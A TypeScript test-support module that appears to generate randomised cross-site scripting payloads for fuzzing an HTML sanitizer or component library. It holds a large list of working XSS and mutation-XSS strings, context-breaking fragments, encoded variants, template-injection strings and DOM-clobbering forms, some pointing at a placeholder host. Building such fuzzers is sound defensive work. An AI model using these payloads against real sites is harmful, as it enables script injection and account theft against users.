import type {Chance} from '../data/seeded.js';

// Markup that runs `pwned()` wherever it becomes markup: put together from parts, so that there is as much as is wanted.

const RUN = ['pwned()', 'pwned`1`', 'top.pwned()', 'window["pwned"]()', 'setTimeout(pwned)', 'alert(1)', 'self.pwned?.()', '(pwned)()'];

const HTML = [
  'img',
  'body',
  'input',
  'video',
  'audio',
  'details',
  'iframe',
  'object',
  'embed',
  'select',
  'textarea',
  'button',
  'form',
  'marquee',
  'a',
  'div',
  'p',
  'x',
  'isindex',
  'keygen',
  'dialog',
  'table',
  'template',
  'slot',
];
const SVG = [
  'svg',
  'animate',
  'set',
  'image',
  'use',
  'a',
  'foreignObject',
  'script',
  'style',
  'title',
  'desc',
  'animateTransform',
  'discard',
];
const MATH = ['math', 'mtext', 'mglyph', 'maction', 'annotation-xml', 'ms', 'mi', 'semantics'];
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'ontoggle',
  'onbegin',
  'onstart',
  'onanimationstart',
  'onpointerover',
  'onbeforematch',
  'ONERROR',
  'onError',
  'oncontentvisibilityautostatechange',
];

/** Where one comes from a text into an element of one's own. */
const BREAKS = [
  ...[
    '',
    '">',
    "'>",
    '`>',
    '>',
    '-->',
    '--!>',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</select>',
  ],
  ...[
    '</svg>',
    '</math>',
    '</blockquote>',
    '</xmp>',
    '</iframe>',
    '<!--',
    '<![CDATA[',
    '"/>',
    '" ',
    "' ",
    '{{',
    '${',
    '</p></div>',
    '\u0000>',
    '&quot;&gt;',
  ],
  ...['<!--?lit$1$-->', '<?lit$1$>', '<!--lit-part-->', 'lit$1$', '<!--/lit-part-->'],
];

/** Whole pieces that are known to become something else when they are parsed twice, or in another place. */
const WHOLE = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<svg><foreignobject><p><style><!--</style><img src=x onerror=pwned()>--></p></foreignobject></svg>',
  '<a href="javascript:pwned()" autofocus onfocus=pwned()>x</a>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="data:text/html,<script>top.pwned()</script>"></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<base href="https://ond.example/"><link rel="stylesheet" href="https://ond.example/x.css">',
  '<style>@import "https://ond.example/x.css"; * { background: url(javascript:pwned()) }</style>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned()</script></svg>#x"></use></svg>',
  '<form id="sammen"><input name="attributes"><input name="shadowRoot"><input name="querySelectorAll"></form>',
  '<a id="sammen"></a><a id="sammen" name="reads" href="javascript:pwned()"></a>',
  '<div data-sammen="input-wall" data-sammen-onclick="pwned()" data-sammen-endpoint="https://ond.example/x"></div>',
  '<sammen-input-form endpoint="https://ond.example/x" form-url="javascript:pwned()"></sammen-input-form>',
  '<script src="/sammen.js" data-endpoint="https://ond.example/x"></script><script>pwned()</script>',
  '<template shadowrootmode="open"><img src=x onerror=pwned()></template>',
  '<plaintext><xmp><listing><noembed><noframes><script>pwned()//',
  '<select><style></select><img src=x onerror=pwned()></style>',
  '<img src="x` `<script>pwned()</script>"` `>',
  '<div popover id=x>x</div><button popovertarget=x onclick=pwned()>',
  '<input type="image" formaction="javascript:pwned()" src=x onerror="pwned()">',
  '<svg onload=pwned()//<svg/onload=pwned()',
  '<isindex type=image src=1 onerror=pwned()>',
  '<%00script>pwned()</script>',
  '\u003cimg src=1 onerror=pwned()\u003e',
  '%3Cimg%20src%3D1%20onerror%3Dpwned()%3E',
  '&lt;img src=1 onerror=pwned()&gt;',
  '&#x3C;img src=1 onerror=pwned()&#x3E;',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '{{constructor.constructor("pwned()")()}}${pwned()}#{pwned()}<%= pwned() %>',
];

const mixed = (word: string, chance: Chance): string =>
  chance.between(0, 3) ? word : Array.from(word, (letter) => (chance.between(0, 1) ? letter.toUpperCase() : letter)).join('');

const space = (chance: Chance): string => chance.one([' ', ' ', '/', '\n', '\t', '\f', '\r', ' / ', '%0a', '\u00a0']);

const attribute = (chance: Chance): string => {
  const run = chance.one(RUN);
  const quote = chance.one(['', '"', "'", '`']);
  const url = chance.one([
    `javascript:${run}`,
    `JaVaScRiPt&colon;${run}`,
    `java&#10;script:${run}`,
    `data:text/html,<script>${run}</script>`,
    'x',
  ]);
  const [name, value] = chance.one([
    ...(Array.from({length: 3}, () => [chance.one(EVENTS), run]) as [string, string][]),
    ...([
      ['src', 'x'],
      ['href', url],
      ['xlink:href', url],
      ['action', url],
      ['formaction', url],
      ['data', url],
      ['srcdoc', `<script>${run}</script>`],
      ['style', `background:url(${url})`],
      ['autofocus', ''],
      ['open', ''],
      ['to', url],
      ['attributeName', 'href'],
      ['is', 'sammen-receipt'],
      ['slot', 'x'],
      ['part', 'heading'],
      ['id', '__proto__'],
    ] as [string, string][]),
  ]);
  return `${mixed(name, chance)}=${quote}${value}${quote}`;
};

const element = (chance: Chance, depth: number): string => {
  const tag = mixed(chance.one(chance.one([HTML, HTML, SVG, MATH, ['script', 'style', 'noscript', 'xmp']])), chance);
  const attributes = Array.from({length: chance.between(1, 3)}, () => space(chance) + attribute(chance)).join('');
  const inside = /^(script|style)$/i.test(tag) ? chance.one(RUN) : depth > 0 ? markup(chance, depth - 1) : chance.one(['', 'x', '&lt;']);
  const end = chance.one([`</${tag}>`, '', `</${tag}`, '<', `</${tag} x>`, '</']);
  return `<${tag}${attributes}${chance.one(['>', '>', '/>', '', '<', ' >'])}${inside}${end}`;
};

/** One piece of hostile markup; no two in a row of the same seed are alike. */
export const markup = (chance: Chance, depth = 2): string =>
  chance.between(0, 5) === 0 ? chance.one(BREAKS) + chance.one(WHOLE) : chance.one(BREAKS) + element(chance, depth);

/** So many different pieces. */
export const manyMarkups = (chance: Chance, count: number): string[] => {
  const found = new Set<string>();
  while (found.size < count) found.add(markup(chance));
  return [...found];
};
